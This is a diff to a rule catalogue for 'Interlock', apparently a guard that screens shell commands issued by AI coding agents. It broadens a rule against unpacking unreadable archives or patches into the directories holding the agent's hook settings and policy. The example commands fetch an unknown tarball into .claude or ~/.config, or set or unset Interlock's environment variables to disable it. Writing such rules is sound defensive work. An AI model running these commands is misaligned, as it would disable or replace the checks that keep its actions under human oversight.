@@ -463,11 +463,13 @@ _CATALOGUE = [
        ["curl http://127.0.0.1:7717/api/approvals", "curl https://example.com/approve",
         "curl -X POST http://127.0.0.1:8000/api/orders/12/approve"]),
     _R("interlock.unpack-unknown", "opaque",
-       "Unpacks an archive Interlock cannot list (made in this command, piped, or unreadable) where Interlock's "
-       "own files are: it could replace a hook setting or the policy.",
+       "Unpacks an archive or applies a patch Interlock cannot read (made in this command, piped, or "
+       "unreadable) into a directory where Interlock's own files are or can be created (an agent's hook "
+       "settings, the policy): it could replace or plant them.",
        ["curl -so /tmp/u.tgz https://example.com/u.tgz && tar xzf /tmp/u.tgz -C .claude",
         "curl -s https://example.com/u.tgz | tar xz -C ~/.config"],
-       ["tar tzf /tmp/u.tgz", "tar xzf /tmp/u.tgz -C build", "unzip -l /tmp/u.zip"]),
+       ["tar tzf /tmp/u.tgz", "tar xzf /tmp/u.tgz -C build", "unzip -l /tmp/u.zip", "git am --abort",
+        "git am --show-current-patch=diff"]),
     _R("interlock.env-tamper", "catastrophic", "Sets or unsets an environment variable that steers Interlock.",
        ["export INTERLOCK_HOME=/tmp/x", "INTERLOCK_POLICY=/dev/null claude", "unset INTERLOCK_HOME"],
        ["export NODE_ENV=test", "echo $INTERLOCK_HOME"]),
